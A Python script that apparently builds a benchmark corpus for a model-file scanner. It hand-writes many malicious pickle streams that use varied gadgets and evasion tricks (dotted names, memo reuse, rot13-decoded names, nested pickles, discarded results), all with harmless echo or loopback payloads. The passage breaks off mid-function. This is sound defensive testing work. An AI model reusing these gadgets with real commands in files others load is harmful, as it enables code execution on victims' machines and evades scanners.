"""Build the model-scanner benchmark corpus: malicious files generated from the public
evasion techniques, benign files written by the real libraries, and a labels.json.

Run it with the peers' virtualenv (`bash bench/model_scan/setup_peers.sh` creates it):
`bench/.peers/venv/bin/python bench/model_scan/build_corpus.py [--out DIR] [--large DIR]`.
Every payload is harmless if ever run (it prints or echoes `stockade-corpus`, reads a
system file, or touches 127.0.0.1:9); nothing here ever loads a malicious file.
"""

from __future__ import annotations

import argparse
import base64
import bz2
import dataclasses
import gzip
import io
import json
import logging
import lzma
import marshal
import os
import pickle
import shutil
import struct
import sys
import tarfile
import time
import warnings
import zipfile
import zlib
from collections.abc import Callable, Iterable
from pathlib import Path
from typing import Any

os.environ.setdefault("KERAS_BACKEND", "torch")
os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")

__all__ = ["Sample", "build", "build_large", "main"]

ROOT = Path(__file__).resolve().parents[2]
DEFAULT_OUT = ROOT / "bench" / "out" / "model_corpus"
DEFAULT_LARGE = ROOT / "bench" / "out" / "model_large"
LABELS = "labels.json"
MIB = 1 << 20

# Harmless payloads: what a malicious file would run if someone loaded it.
CMD = "echo stockade-corpus"
ARGV = ["echo", "stockade-corpus"]
CODE = "print('stockade-corpus')"
OS_CODE = "__import__('os').system('echo stockade-corpus')"
LOOPBACK = ("127.0.0.1", 9)  # the discard port on loopback: refused, never leaves the host


@dataclasses.dataclass(frozen=True)
class Sample:
    """One labelled sample: a file, or a model folder whose files are judged together."""

    id: str
    label: str  # "malicious" | "benign"
    family: str
    format: str
    files: tuple[str, ...]
    technique: str


class Reduce:
    """A stand-in whose pickling is `callable(*args)`: the pickler writes the reference,
    nothing is ever called here."""

    def __init__(self, func: Any, args: tuple[Any, ...] = ()) -> None:
        self.func = func
        self.args = args

    def __reduce__(self) -> tuple[Any, tuple[Any, ...]]:
        return self.func, self.args


# -- a small pickle assembler -------------------------------------------------------------
# Hand-written opcode streams, for what the standard pickler never emits.

PROTO = b"\x80"
STOP = b"."
MARK = b"("
POP = b"0"
POP_MARK = b"1"
TUPLE = b"t"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
EMPTY_TUPLE = b")"
EMPTY_DICT = b"}"
EMPTY_LIST = b"]"
REDUCE = b"R"
BUILD = b"b"
APPEND = b"a"
SETITEM = b"s"
MEMOIZE = b"\x94"
STACK_GLOBAL = b"\x93"
NEWOBJ = b"\x81"
NONE = b"N"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"


def proto(n: int) -> bytes:
    return PROTO + bytes([n])


def frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


def global_op(module: str, name: str) -> bytes:
    """GLOBAL (protocol 0+): module and name on text lines."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def u(text: str) -> bytes:
    """A str: SHORT_BINUNICODE, or BINUNICODE when long."""
    data = text.encode()
    if len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def u8(text: str) -> bytes:
    data = text.encode()
    return b"\x8d" + struct.pack("<Q", len(data)) + data


def v0(text: str) -> bytes:
    """A str in protocol 0: UNICODE, raw-unicode-escape on one line."""
    return b"V" + text.encode("raw-unicode-escape") + b"\n"


def s0(text: str) -> bytes:
    """The old STRING opcode: a quoted Python literal on one line."""
    return b"S" + repr(text).encode() + b"\n"


def short_binstring(text: str) -> bytes:
    data = text.encode()
    return b"U" + bytes([len(data)]) + data


def binbytes(data: bytes) -> bytes:
    if len(data) < 256:
        return b"C" + bytes([len(data)]) + data
    return b"B" + struct.pack("<I", len(data)) + data


def int_op(value: int) -> bytes:
    if 0 <= value < 256:
        return b"K" + bytes([value])
    return b"J" + struct.pack("<i", value)


def sg(module: str, name: str) -> bytes:
    """STACK_GLOBAL (protocol 4+) from two pushed strs."""
    return u(module) + u(name) + STACK_GLOBAL


def tup(*items: bytes) -> bytes:
    if not items:
        return EMPTY_TUPLE
    if len(items) == 1:
        return items[0] + TUPLE1
    if len(items) == 2:
        return items[0] + items[1] + TUPLE2
    if len(items) == 3:
        return b"".join(items) + TUPLE3
    return MARK + b"".join(items) + TUPLE


def call(func: bytes, *args: bytes) -> bytes:
    """func(*args) with REDUCE."""
    return func + tup(*args) + REDUCE


def lst(*items: bytes) -> bytes:
    out = EMPTY_LIST
    for item in items:
        out += item + APPEND
    return out


def dct(pairs: Iterable[tuple[bytes, bytes]]) -> bytes:
    out = EMPTY_DICT
    for key, value in pairs:
        out += key + value + SETITEM
    return out


def p4(body: bytes) -> bytes:
    """A protocol 4 stream with one frame."""
    return proto(4) + frame(body + STOP)


def p2(body: bytes) -> bytes:
    return proto(2) + body + STOP


def benign_result() -> bytes:
    """What a loader gets back after the payload ran: an ordinary weights dict."""
    return dct([(u("weight"), lst(b"G" + struct.pack(">d", 0.5))), (u("epoch"), int_op(3))])


# -- the corpus writer --------------------------------------------------------------------


class Corpus:
    def __init__(self, out: Path) -> None:
        self.out = out
        self.samples: list[Sample] = []
        self.skipped: list[str] = []

    def path(self, label: str, family: str, name: str) -> Path:
        target = self.out / label / family / name
        target.parent.mkdir(parents=True, exist_ok=True)
        return target

    def add(
        self,
        label: str,
        family: str,
        name: str,
        data: bytes,
        technique: str,
        fmt: str = "pickle",
    ) -> None:
        target = self.path(label, family, name)
        target.write_bytes(data)
        self.record(label, family, target, technique, fmt)

    def record(self, label: str, family: str, target: Path, technique: str, fmt: str) -> None:
        """Register a file (or a folder, whose files are judged as one sample)."""
        if target.is_dir():
            files = sorted(str(p.relative_to(self.out)) for p in target.rglob("*") if p.is_file())
        else:
            files = [str(target.relative_to(self.out))]
        if not files:
            raise RuntimeError(f"sample {target} wrote no file")
        sample_id = str(target.relative_to(self.out))
        self.samples.append(Sample(sample_id, label, family, fmt, tuple(files), technique))

    def attempt(self, what: str, build: Callable[[], None]) -> None:
        """Run an optional writer (a library may lack a feature); record why it did not."""
        try:
            build()
        except Exception as exc:
            self.skipped.append(f"{what}: {type(exc).__name__}: {exc}")
            print(f"[corpus] skipped {what}: {type(exc).__name__}: {exc}", file=sys.stderr)


def _bad(
    c: Corpus, family: str, name: str, data: bytes, technique: str, fmt: str = "pickle"
) -> None:
    c.add("malicious", family, name, data, technique, fmt)


# -- malicious: pickle families -----------------------------------------------------------


def pickle_direct(c: Corpus) -> None:
    fam = "pickle-direct"
    for protocol in range(6):
        data = pickle.dumps(Reduce(os.system, (CMD,)), protocol=protocol)
        opcode = "GLOBAL" if protocol < 4 else "STACK_GLOBAL"
        _bad(
            c,
            fam,
            f"posix_system_p{protocol}.pkl",
            data,
            f"os.system (pickled as posix.system) via {opcode}, protocol {protocol}",
        )
    _bad(
        c,
        fam,
        "os_system_global_p0.pkl",
        global_op("os", "system") + MARK + v0(CMD) + TUPLE + REDUCE + STOP,
        "os.system via GLOBAL, hand-written protocol 0",
    )
    _bad(
        c,
        fam,
        "os_system_stack_global_p4.pkl",
        p4(call(sg("os", "system"), u(CMD))),
        "os.system via STACK_GLOBAL in a protocol 4 frame",
    )
    _bad(
        c,
        fam,
        "nt_system_p2.bin",
        p2(call(global_op("nt", "system"), u(CMD))),
        "nt.system, the Windows spelling of os.system",
    )
    for protocol in (2, 5):
        data = pickle.dumps(Reduce(__import__("subprocess").Popen, (ARGV,)), protocol=protocol)
        _bad(
            c,
            fam,
            f"subprocess_popen_p{protocol}.pkl",
            data,
            f"subprocess.Popen(argv), protocol {protocol}",
        )
    for func in ("check_output", "run", "call", "getoutput"):
        arg = u(CMD) if func == "getoutput" else lst(*(u(a) for a in ARGV))
        _bad(
            c,
            fam,
            f"subprocess_{func}.pkl",
            p4(call(sg("subprocess", func), arg)),
            f"subprocess.{func}",
        )
    _bad(c, fam, "os_popen.pth", p2(call(global_op("os", "popen"), u(CMD))), "os.popen")
    _bad(
        c,
        fam,
        "os_spawnlp.pkl",
        p2(call(global_op("os", "spawnlp"), int_op(os.P_WAIT), u("true"), u("true"))),
        "os.spawnlp(P_WAIT, 'true', 'true')",
    )
    _bad(
        c,
        fam,
        "builtins_eval.pkl",
        p4(call(sg("builtins", "eval"), u(OS_CODE))),
        "builtins.eval of a code string",
    )
    _bad(
        c,
        fam,
        "builtins_exec.ckpt",
        p2(call(global_op("builtins", "exec"), u(CODE))),
        "builtins.exec of a code string",
    )
    _bad(
        c,
        fam,
        "builtin_eval_py2.pkl",
        global_op("__builtin__", "eval") + MARK + v0(OS_CODE) + TUPLE + REDUCE + STOP,
        "__builtin__.eval, the Python 2 module name the unpickler maps to builtins",
    )
    _bad(
        c,
        fam,
        "inst_os_system.pkl",
        MARK + v0(CMD) + b"i" + b"os\nsystem\n" + STOP,
        "INST opcode calling os.system",
    )
    _bad(
        c,
        fam,
        "obj_os_system.pkl",
        MARK + global_op("os", "system") + v0(CMD) + b"o" + STOP,
        "OBJ opcode calling os.system",
    )
    _bad(
        c,
        fam,
        "newobj_popen.pkl",
        p2(global_op("subprocess", "Popen") + tup(lst(*(u(a) for a in ARGV))) + NEWOBJ),
        "NEWOBJ of subprocess.Popen",
    )
    benign = pickle.dumps({"weight": [0.5, 0.25], "bias": 0.1}, protocol=4)
    _bad(
        c,
        fam,
        "stacked_benign_then_malicious.pkl",
        benign + pickle.dumps(Reduce(os.system, (CMD,)), protocol=4),
        "two pickles in one stream: a benign one, then os.system",
    )
    _bad(
        c,
        fam,
        "stacked_three_then_malicious.dat",
        pickle.dumps(0x1950A86A20F9469CFC6C, protocol=2)
        + pickle.dumps(1001, protocol=2)
        + pickle.dumps({"protocol_version": 1001}, protocol=2)
        + pickle.dumps(Reduce(os.system, (CMD,)), protocol=2),
        "legacy-torch-style stacked pickles, the fourth calls os.system",
    )


def pickle_obfuscated_names(c: Corpus) -> None:
    fam = "pickle-name-assembly"
    body = u("os") + MEMOIZE + POP + u("system") + MEMOIZE + POP
    body += b"h\x00" + b"h\x01" + STACK_GLOBAL + tup(u(CMD)) + REDUCE
    _bad(
        c,
        fam,
        "memo_binget.pkl",
        p4(body),
        "module and name memoized, popped, fetched back with BINGET for STACK_GLOBAL",
    )
    body = u("subprocess") + b"r" + struct.pack("<I", 70000) + POP
    body += u("getoutput") + b"r" + struct.pack("<I", 70001) + POP
    body += b"j" + struct.pack("<I", 70000) + b"j" + struct.pack("<I", 70001) + STACK_GLOBAL
    body += tup(u(CMD)) + REDUCE
    _bad(
        c,
        fam,
        "memo_long_binput.pkl",
        p4(body),
        "LONG_BINPUT/LONG_BINGET at high memo indices for the module and name",
    )
    body = v0("os") + b"p0\n" + POP + v0("system") + b"p1\n" + POP
    body += b"g0\n" + b"g1\n" + STACK_GLOBAL + MARK + v0(CMD) + TUPLE + REDUCE
    _bad(
        c,
        fam,
        "memo_text_put_get.pkl",
        proto(4) + body + STOP,
        "text PUT/GET memo opcodes feeding STACK_GLOBAL",
    )
    _bad(
        c,
        fam,
        "string_opcode_names.pkl",
        proto(4) + s0("os") + s0("system") + STACK_GLOBAL + MARK + s0(CMD) + TUPLE + REDUCE + STOP,
        "names from the old STRING opcode (quoted literals)",
    )
    _bad(
        c,
        fam,
        "short_binstring_names.pkl",
        proto(4)
        + short_binstring("posix")
        + short_binstring("system")
        + STACK_GLOBAL
        + short_binstring(CMD)
        + TUPLE1
        + REDUCE
        + STOP,
        "names from SHORT_BINSTRING (protocol 1 byte strings decoded as str)",
    )
    _bad(
        c,
        fam,
        "binunicode8_names.pkl",
        p4(
            u8("subprocess")
            + u8("check_output")
            + STACK_GLOBAL
            + tup(lst(*(u8(a) for a in ARGV)))
            + REDUCE
        ),
        "names from BINUNICODE8",
    )
    _bad(
        c,
        fam,
        "unicode_escapes.pkl",
        proto(4)
        + b"V\\u006fs\n"
        + b"V\\u0073ystem\n"
        + STACK_GLOBAL
        + MARK
        + v0(CMD)
        + TUPLE
        + REDUCE
        + STOP,
        "names spelled with \\u escapes in the UNICODE opcode",
    )
    body = EMPTY_DICT + MEMOIZE + u("os") + MEMOIZE + u("layer.0") + SETITEM
    body += u("system") + MEMOIZE + POP + b"h\x01" + b"h\x02" + STACK_GLOBAL + tup(u(CMD))
    body += REDUCE + POP
    _bad(
        c,
        fam,
        "memo_reused_dict_key.pkl",
        p4(body),
        "module name memoized as a dict key of the result, then reused for STACK_GLOBAL",
    )
    rot = sg("codecs", "decode")
    body = call(rot, u("bf"), u("rot_13")) + call(rot, u("flfgrz"), u("rot_13")) + STACK_GLOBAL
    body += tup(u(CMD)) + REDUCE
    _bad(
        c,
        fam,
        "rot13_computed_names.pkl",
        p4(body),
        "module and name computed at load time by codecs.decode(..., 'rot_13')",
    )


def pickle_dotted(c: Corpus) -> None:
    fam = "pickle-dotted-names"
    cases = [
        ("posixpath", "os.system", "posixpath_os_system.pkl"),
        ("os", "path.os.system", "os_path_os_system.pkl"),
        ("shutil", "os.system", "shutil_os_system.pkl"),
        ("numpy.testing._private.utils", "os.system", "numpy_testing_os_system.pkl"),
        ("torch.serialization", "os.system", "torch_serialization_os_system.pt"),
        ("subprocess", "os.system", "subprocess_os_system.pkl"),
    ]
    for module, name, fname in cases:
        _bad(
            c,
            fam,
            fname,
            p4(call(sg(module, name), u(CMD))),
            f"STACK_GLOBAL('{module}', '{name}'): os.system reached through another module",
        )
    _bad(
        c,
        fam,
        "global_dotted_after_proto4.pkl",
        proto(4) + global_op("posixpath", "os.system") + MARK + v0(CMD) + TUPLE + REDUCE + STOP,
        "text GLOBAL with a dotted name, honoured once PROTO 4 was seen",
    )
    modules = sg("collections", "_sys.modules")
    os_module = call(sg("builtins", "dict.get"), modules, u("os"))
    _bad(
        c,
        fam,
        "sys_modules_dotted.pkl",
        p4(call(call(sg("builtins", "getattr"), os_module, u("system")), u(CMD))),
        "collections._sys.modules and builtins.dict.get (dotted) fetch os, getattr the rest",
    )


def pickle_trampolines(c: Corpus) -> None:
    fam = "pickle-trampolines"
    imp = sg("builtins", "__import__")
    get = sg("builtins", "getattr")
    import_module = sg("importlib", "import_module")

    def ga(obj: bytes, name: str) -> bytes:
        return call(get, obj, u(name))

    _bad(
        c,
        fam,
        "getattr_import_os_system.pkl",
        p4(call(ga(call(imp, u("os")), "system"), u(CMD))),
        "getattr(__import__('os'), 'system')(cmd)",
    )
    _bad(
        c,
        fam,
        "getattr_import_module_subprocess.pkl",
        p4(
            call(
                ga(call(import_module, u("subprocess")), "check_output"), lst(*(u(a) for a in ARGV))
            )
        ),
        "getattr(importlib.import_module('subprocess'), 'check_output')(argv)",
    )
    _bad(
        c,
        fam,
        "operator_attrgetter.pkl",
        p4(
            call(
                call(call(sg("operator", "attrgetter"), u("system")), call(import_module, u("os"))),
                u(CMD),
            )
        ),
        "operator.attrgetter('system')(import_module('os'))(cmd)",
    )
    _bad(
        c,
        fam,
        "operator_attrgetter_dotted.pkl",
        p4(
            call(
                call(
                    call(sg("operator", "attrgetter"), u("path.os.system")),
                    call(import_module, u("os")),
                ),
                u(CMD),
            )
        ),
        "operator.attrgetter('path.os.system') on import_module('os')",
    )
    _bad(
        c,
        fam,
        "operator_methodcaller.pkl",
        p4(
            call(
                call(sg("operator", "methodcaller"), u("system"), u(CMD)),
                call(import_module, u("os")),
            )
        ),
        "operator.methodcaller('system', cmd)(import_module('os'))",
    )
    _bad(
        c,
        fam,
        "functools_partial_eval.pkl",
        p4(call(call(sg("functools", "partial"), sg("builtins", "eval"), u(OS_CODE)))),
        "functools.partial(eval, code)() — eval only appears as an argument",
    )
    _bad(
        c,
        fam,
        "pkgutil_resolve_name_colon.pkl",
        p4(call(call(sg("pkgutil", "resolve_name"), u("os:system")), u(CMD))),
        "pkgutil.resolve_name('os:system')(cmd)",
    )
    _bad(
        c,
        fam,
        "pkgutil_resolve_name_dotted.pkl",
        p4(call(call(sg("pkgutil", "resolve_name"), u("subprocess.getoutput")), u(CMD))),
        "pkgutil.resolve_name('subprocess.getoutput')(cmd)",
    )
    _bad(
        c,
        fam,
        "operator_getitem_sys_modules.pkl",
        p4(
            call(
                ga(call(sg("operator", "getitem"), sg("sys", "modules"), u("os")), "system"), u(CMD)
            )
        ),
        "getattr(operator.getitem(sys.modules, 'os'), 'system')(cmd)",
    )
    _bad(
        c,
        fam,
        "getattr_chain_path_os.pkl",
        p4(call(ga(ga(ga(call(imp, u("os")), "path"), "os"), "system"), u(CMD))),
        "getattr chain __import__('os').path.os.system",
    )
    _bad(
        c,
        fam,
        "list_map_eval.pkl",
        p4(
            call(
                sg("builtins", "list"),
                call(sg("builtins", "map"), sg("builtins", "eval"), lst(u(OS_CODE))),
            )
        ),
        "list(map(eval, [code])): the dangerous callable passed as an argument",
    )
    _bad(
        c,
        fam,
        "getattr_builtins_module_exec.pkl",
        p4(call(ga(call(import_module, u("builtins")), "exec"), u(CODE))),
        "getattr(import_module('builtins'), 'exec')(code)",
    )


def pickle_eval_stdlib(c: Corpus) -> None:
    fam = "pickle-eval-stdlib"
    timer = sg("time", "perf_counter")
    cases: list[tuple[str, bytes, str]] = [
        (
            "timeit_timeit.pkl",
            call(sg("timeit", "timeit"), u("pass"), u(OS_CODE), timer, int_op(1)),
            "timeit.timeit('pass', setup=code, timer=time.perf_counter, number=1)",
        ),
        (
            "timeit_repeat.pkl",
            call(sg("timeit", "repeat"), u(CODE), u("pass"), timer, int_op(1), int_op(1)),
            "timeit.repeat(code, 'pass', time.perf_counter, 1, 1)",
        ),
        ("cprofile_run.pkl", call(sg("cProfile", "run"), u(OS_CODE)), "cProfile.run(code)"),
        (
            "cprofile_runctx.pkl",
            call(sg("cProfile", "runctx"), u(CODE), EMPTY_DICT, EMPTY_DICT),
            "cProfile.runctx(code, {}, {})",
        ),
        ("profile_run.pkl", call(sg("profile", "run"), u(CODE)), "profile.run(code)"),
        ("pdb_run.pkl", call(sg("pdb", "run"), u(CODE)), "pdb.run(code)"),
        (
            "runpy_run_path.pkl",
            call(sg("runpy", "run_path"), u("/dev/null")),
            "runpy.run_path(path)",
        ),
        (
            "runpy_run_code.pkl",
            call(sg("runpy", "_run_code"), u(OS_CODE), EMPTY_DICT),
            "runpy._run_code(code, {})",
        ),
        (
            "code_interactive_interpreter.pkl",
            call(
                call(
                    sg("builtins", "getattr"),
                    call(sg("code", "InteractiveInterpreter")),
                    u("runsource"),
                ),
                u(CODE),
            ),
            "getattr(code.InteractiveInterpreter(), 'runsource')(code)",
        ),
        (
            "code_interactive_console_push.pkl",
            call(
                sg("code", "InteractiveConsole.push"),
                call(sg("code", "InteractiveConsole")),
                u(CODE),
            ),
            "code.InteractiveConsole.push(console, code) through a dotted name",
        ),
        (
            "idlelib_calltip_get_entity.pkl",
            call(sg("idlelib.calltip", "get_entity"), u(OS_CODE)),
            "idlelib.calltip.get_entity(expression) evaluates it",
        ),
        (
            "idlelib_autocomplete_get_entity.pkl",
            call(sg("idlelib.autocomplete", "AutoComplete.get_entity"), NONE, u(OS_CODE)),
            "idlelib.autocomplete.AutoComplete.get_entity(None, expression)",
        ),
        (
            "numpy_testing_runstring.pkl",
            call(sg("numpy.testing._private.utils", "runstring"), u(CODE), EMPTY_DICT),
            "numpy.testing._private.utils.runstring(code, {})",
        ),
        (
            "numpy_f2py_myeval.pkl",
            call(sg("numpy.f2py.crackfortran", "myeval"), u(OS_CODE), EMPTY_DICT, EMPTY_DICT),
            "numpy.f2py.crackfortran.myeval(expression) evaluates it",
        ),
        (
            "torch_exec_wrapper.pt",
            call(
                sg("torch.jit.unsupported_tensor_ops", "execWrapper"),
                u(CODE),
                EMPTY_DICT,
                EMPTY_DICT,
            ),
            "torch.jit.unsupported_tensor_ops.execWrapper(code, {}, {})",
        ),
        (
            "torch_collect_env_run.pt",
            call(sg("torch.utils.collect_env", "run"), u(CMD)),
            "torch.utils.collect_env.run(command)",
        ),
        (
            "builtins_compile_exec.pkl",
            call(
                sg("builtins", "exec"),
                call(sg("builtins", "compile"), u(CODE), u("<corpus>"), u("exec")),
            ),
            "exec(compile(code, ...))",
        ),
    ]
    for name, body, technique in cases:
        _bad(c, fam, name, p4(body), technique)


def pickle_uncommon_primitives(c: Corpus) -> None:
    fam = "pickle-uncommon-primitives"
    argv = lst(*(u(a) for a in ARGV))
    host, port = u(LOOPBACK[0]), int_op(LOOPBACK[1])
    cases: list[tuple[str, bytes, str]] = [
        (
            "imaplib_imap4_stream.pkl",
            call(global_op("imaplib", "IMAP4_stream"), u(CMD)),
            "imaplib.IMAP4_stream(command) runs a shell command",
        ),
        (
            "uuid_get_command_stdout.pkl",
            call(global_op("uuid", "_get_command_stdout"), u("echo"), u("stockade-corpus")),
            "uuid._get_command_stdout(command, *args)",
        ),
        (
            "pydoc_pipepager.pkl",
            call(global_op("pydoc", "pipepager"), u("stockade-corpus"), u("true")),
            "pydoc.pipepager(text, cmd) runs cmd in a shell",
        ),
        ("pty_spawn.pkl", call(global_op("pty", "spawn"), lst(u("true"))), "pty.spawn(argv)"),
        (
            "ctypes_cdll.pkl",
            call(global_op("ctypes", "CDLL"), u("libc.so.6")),
            "ctypes.CDLL(library) loads native code",
        ),
        (
            "io_fileio.pkl",
            call(global_op("_io", "FileIO"), u("/etc/hostname")),
            "_io.FileIO(path) opens a file",
        ),
        ("io_open.pkl", call(global_op("io", "open"), u("/etc/hostname")), "io.open(path)"),
        (
            "builtins_open.pkl",
            call(global_op("builtins", "open"), u("/etc/hostname")),
            "builtins.open(path)",
        ),
        (
            "logging_config_listen.pkl",
            call(global_op("logging.config", "listen"), int_op(0)),
            "logging.config.listen(port): a config server that evaluates what it receives",
        ),
        (
            "logging_socket_handler.pkl",
            call(global_op("logging.handlers", "SocketHandler"), host, port),
            "logging.handlers.SocketHandler(host, port)",
        ),
        (
            "smtplib_smtp.pkl",
            call(global_op("smtplib", "SMTP"), host, port),
            "smtplib.SMTP(host, port) connects",
        ),
        (
            "urllib_urlopen.pkl",
            call(global_op("urllib.request", "urlopen"), u("file:///etc/hostname")),
            "urllib.request.urlopen(url)",
        ),
        (
            "ssl_get_server_certificate.pkl",
            call(global_op("ssl", "get_server_certificate"), tup(host, port)),
            "ssl.get_server_certificate((host, port)) connects",
        ),
        (
            "socket_create_connection.pkl",
            call(global_op("socket", "create_connection"), tup(host, port)),
            "socket.create_connection((host, port))",
        ),
        (
            "http_client_connection.pkl",
            call(global_op("http.client", "HTTPConnection"), host, port),
            "http.client.HTTPConnection(host, port)",
        ),
        (
            "venv_create.pkl",
            call(global_op("venv", "create"), u("/tmp/stockade-corpus-venv")),
            "venv.create(dir) writes a virtualenv",
        ),
        (
            "ensurepip_run_pip.pkl",
            call(global_op("ensurepip", "_run_pip"), lst(u("--version"))),
            "ensurepip._run_pip(args) runs pip in a subprocess",
        ),
        (
            "pip_internal_main.pkl",
            call(global_op("pip._internal", "main"), lst(u("--version"))),
            "pip._internal.main(args) runs pip in-process (installs code)",
        ),
        (
            "multiprocessing_process.pkl",
            call(
                global_op("multiprocessing", "Process"),
                NONE,
                global_op("builtins", "print"),
                NONE,
                tup(u("stockade-corpus")),
            ),
            "multiprocessing.Process(target=print, args=...) a process object",
        ),
        (
            "posixsubprocess_fork_exec.pkl",
            call(global_op("_posixsubprocess", "fork_exec"), argv),
            "_posixsubprocess.fork_exec, the primitive under subprocess",
        ),
        (
            "asyncio_create_subprocess_shell.pkl",
            call(global_op("asyncio.subprocess", "create_subprocess_shell"), u(CMD)),
            "asyncio.subprocess.create_subprocess_shell(cmd)",
        ),
        (
            "asyncio_unix_subprocess_transport.pkl",
            call(
                global_op("asyncio.unix_events", "_UnixSubprocessTransport"),
                NONE,
                NONE,
                NEWTRUE,
                argv,
                NONE,
                NONE,
                NONE,
                int_op(0),
            ),
            "asyncio.unix_events._UnixSubprocessTransport(loop, protocol, args, ...)",
        ),
        (
            "xmlrpc_server_proxy.pkl",
            call(global_op("xmlrpc.client", "ServerProxy"), u("http://127.0.0.1:9/")),
            "xmlrpc.client.ServerProxy(url)",
        ),
    ]
    for name, body, technique in cases:
        _bad(c, fam, name, p2(body), technique)


def _code_fields(code: Any) -> list[bytes]:
    """The constructor arguments of a CPython 3.11 code object, as pickle pushes."""

    def value(v: Any) -> bytes:
        if v is None:
            return NONE
        if isinstance(v, bool):
            return NEWTRUE if v else NEWFALSE
        if isinstance(v, int):
            return int_op(v)
        if isinstance(v, str):
            return u(v)
        if isinstance(v, bytes):
            return binbytes(v)
        if isinstance(v, tuple):
            return MARK + b"".join(value(x) for x in v) + TUPLE
        raise TypeError(f"unexpected constant {v!r}")

    names = (
        "co_argcount",
        "co_posonlyargcount",
        "co_kwonlyargcount",
        "co_nlocals",
        "co_stacksize",
        "co_flags",
        "co_code",
        "co_consts",
        "co_names",
        "co_varnames",
        "co_filename",
        "co_name",
        "co_qualname",
        "co_firstlineno",
        "co_linetable",
        "co_exceptiontable",
        "co_freevars",
        "co_cellvars",
    )
    return [value(getattr(code, n)) for n in names]


def pickle_code_objects(c: Corpus) -> None:
    fam = "pickle-code-objects"
    code = compile(OS_CODE, "<corpus>", "exec")
    function_type = sg("types", "FunctionType")
    _bad(
        c,
        fam,
        "marshal_function_type.pkl",
        p4(
            call(
                call(
                    function_type,
                    call(sg("marshal", "loads"), binbytes(marshal.dumps(code))),
                    EMPTY_DICT,
                )
            )
        ),
        "types.FunctionType(marshal.loads(bytes), {})()",
    )
    _bad(
        c,
        fam,
        "compile_function_type.pkl",
        p4(
            call(
                call(
                    function_type,
                    call(sg("builtins", "compile"), u(CODE), u("<corpus>"), u("exec")),
                    EMPTY_DICT,
                )
            )
        ),
        "types.FunctionType(compile(code), {})()",
    )
    if sys.version_info[:2] == (3, 11):
        fields = _code_fields(code)
        _bad(
            c,
            fam,
            "code_type_constructor.pkl",
            p4(call(call(function_type, call(sg("types", "CodeType"), *fields), EMPTY_DICT))),
            "types.CodeType(...) built field by field, wrapped in FunctionType and called",
        )
        _bad(
            c,
            fam,
            "dill_create_code.pkl",
            p4(
                call(
                    call(
                        sg("dill._dill", "_create_function"),
                        call(sg("dill._dill", "_create_code"), *fields),
                        EMPTY_DICT,
                    )
                )
            ),
            "dill._dill._create_code / _create_function globals, called",
        )
    _bad(
        c,
        fam,
        "exec_marshal_loads.pkl",
        p4(
            call(
                sg("builtins", "exec"), call(sg("marshal", "loads"), binbytes(marshal.dumps(code)))
            )
        ),
        "exec(marshal.loads(bytes))",
    )
    _bad(
        c,
        fam,
        "cloudpickle_builtin_type.pkl",
        p4(
            call(
                call(
                    sg("cloudpickle.cloudpickle", "_make_function"),
                    call(
                        call(sg("cloudpickle.cloudpickle", "_builtin_type"), u("CodeType")),
                        *(_code_fields(code) if sys.version_info[:2] == (3, 11) else []),
                    ),
                    EMPTY_DICT,
                    NONE,
                    NONE,
                    NONE,
                )
            )
        ),
        "cloudpickle._builtin_type('CodeType') and _make_function, hand-written",
    )

    def with_cloudpickle() -> None:
        import cloudpickle

        payload = eval("lambda: __import__('os').system('echo stockade-corpus')")
        _bad(
            c,
            fam,
            "cloudpickle_lambda_called.pkl",
            cloudpickle.dumps(Reduce(payload, ())),
            "real cloudpickle output: a lambda pickled by value, then called",
        )

    def with_dill() -> None:
        import dill

        payload = eval("lambda: __import__('os').system('echo stockade-corpus')")
        _bad(
            c,
            fam,
            "dill_lambda_called.pkl",
            dill.dumps(Reduce(payload, ()), recurse=True),
            "real dill output: a lambda pickled by value, then called",
        )

    c.attempt("cloudpickle payload", with_cloudpickle)
    c.attempt("dill payload", with_dill)


def pickle_nested(c: Corpus) -> None:
    fam = "pickle-nested"
    inner = pickle.dumps(Reduce(os.system, (CMD,)), protocol=4)
    _bad(
        c,
        fam,
        "pickle_loads_p2_codecs.pkl",
        pickle.dumps(Reduce(pickle.loads, (inner,)), protocol=2),
        "pickle.loads(inner) with the inner bytes as _codecs.encode (protocol 2)",
    )
    _bad(
        c,
        fam,
        "pickle_loads_p4_binbytes.pkl",
        p4(call(sg("pickle", "loads"), binbytes(inner))),
        "pickle.loads(BINBYTES inner)",
    )
    _bad(
        c,
        fam,
        "c_pickle_loads.pkl",
        p4(call(sg("_pickle", "loads"), binbytes(inner))),
        "_pickle.loads(inner)",
    )
    _bad(
        c,
        fam,
        "pickle_py_loads.pkl",
        p4(call(sg("pickle", "_loads"), binbytes(inner))),
        "pickle._loads (the pure-Python unpickler)",
    )
    middle = p4(call(sg("pickle", "loads"), binbytes(inner)))
    _bad(
        c,
        fam,
        "pickle_loads_two_levels.pkl",
        p4(call(sg("pickle", "loads"), binbytes(middle))),
        "pickle.loads of a pickle that itself calls pickle.loads(inner)",
    )
    _bad(
        c,
        fam,
        "pickle_loads_base64.pkl",
        p4(
            call(
                sg("pickle", "loads"),
                call(sg("base64", "b64decode"), u(base64.b64encode(inner).decode())),
            )
        ),
        "pickle.loads(base64.b64decode(text))",
    )
    _bad(
        c,
        fam,
        "pickle_load_bytesio.pkl",
        p4(call(sg("pickle", "load"), call(sg("io", "BytesIO"), binbytes(inner)))),
        "pickle.load(io.BytesIO(inner))",
    )


def pickle_discarded(c: Corpus) -> None:
    fam = "pickle-discarded-result"
    payload = call(sg("os", "system"), u(CMD))
    _bad(
        c,
        fam,
        "call_then_pop.pkl",
        p4(payload + POP + benign_result()),
        "os.system called, result POPped, an ordinary dict returned",
    )
    _bad(
        c,
        fam,
        "call_then_pop_mark.pkl",
        p4(MARK + payload + u("x") + POP_MARK + benign_result()),
        "the call inside a MARK group thrown away by POP_MARK",
    )
    _bad(
        c,
        fam,
        "call_memoized_then_pop.pkl",
        p4(payload + MEMOIZE + POP + benign_result()),
        "the result memoized and popped, never referenced again",
    )
    _bad(
        c,
        fam,
        "call_in_dropped_list.pkl",
        p4(lst(int_op(1), payload) + POP + benign_result()),
        "the call appended to a list that is dropped",
    )
    _bad(
        c,
        fam,
        "call_stored_in_metadata.pkl",
